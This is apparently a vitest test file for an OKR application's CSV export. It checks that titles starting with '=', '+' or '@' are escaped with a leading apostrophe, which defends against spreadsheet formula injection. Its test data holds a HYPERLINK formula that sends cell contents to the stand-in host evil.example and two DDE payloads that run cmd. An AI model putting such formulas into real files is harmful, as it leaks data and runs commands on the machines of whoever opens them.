/**
 * Anyone who owns an OKR writes its title, and whoever opens the CSV export in a spreadsheet
 * would run a title that starts like a formula: such text is exported with a leading `'`.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { DIALECTS, openTestDatabase } from "../../test/support/databases.js";
import type { OpenedDatabase } from "../store/database.js";
import { insertPerson } from "../store/people.repository.js";
import { addAccount, openTestServer, readJson, type TestServer } from "./test-harness.js";

const FORMULA = '=HYPERLINK("https://evil.example/?d="&A2,"Open the plan")';

describe.each(DIALECTS)("a formula in the CSV export (%s)", (dialect) => {
  let opened: OpenedDatabase;
  let server: TestServer;
  let periodId: string;

  beforeAll(async () => {
    opened = await openTestDatabase(dialect);
    server = await openTestServer(opened);
    const personId = server.deps.newId();
    await insertPerson(server.deps.db, {
      id: personId,
      name: "Olive Owner",
      email: null,
      title: null,
      teamId: null,
    });
    const owner = await addAccount(server.deps, "owner@example.com", "viewer", { personId });
    const admin = async (method: string, path: string, body?: unknown) =>
      readJson(await server.call(server.accounts.admin.token, method, path, body));
    periodId = (await admin("POST", "/api/periods", { label: "2026-Q1" })).id;
    const objective = await admin("POST", "/api/objectives", {
      periodId,
      title: "Grow",
      owner: "Olive Owner",
    });
    for (const title of [FORMULA, "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]) {
      const made = await server.call(owner.token, "POST", "/api/key-results", {
        objectiveId: objective.id,
        title,
        kind: "milestone",
      });
      expect(made.status).toBe(201);
    }
  });
  afterAll(async () => {
    await opened?.close();
  });

  it("is written as text, never as a formula", async () => {
    const response = await server.call(
      server.accounts.admin.token,
      "GET",
      `/api/export?periodId=${periodId}&format=csv`,
    );
    expect(response.status).toBe(200);
    const titles = (await response.text())
      .split("\r\n")
      .slice(2, 5)
      .map((row) => row.split(",")[4] ?? "");
    for (const title of titles) expect(title.replace(/^"/, "")).toMatch(/^'[=+@]/);
  });
});
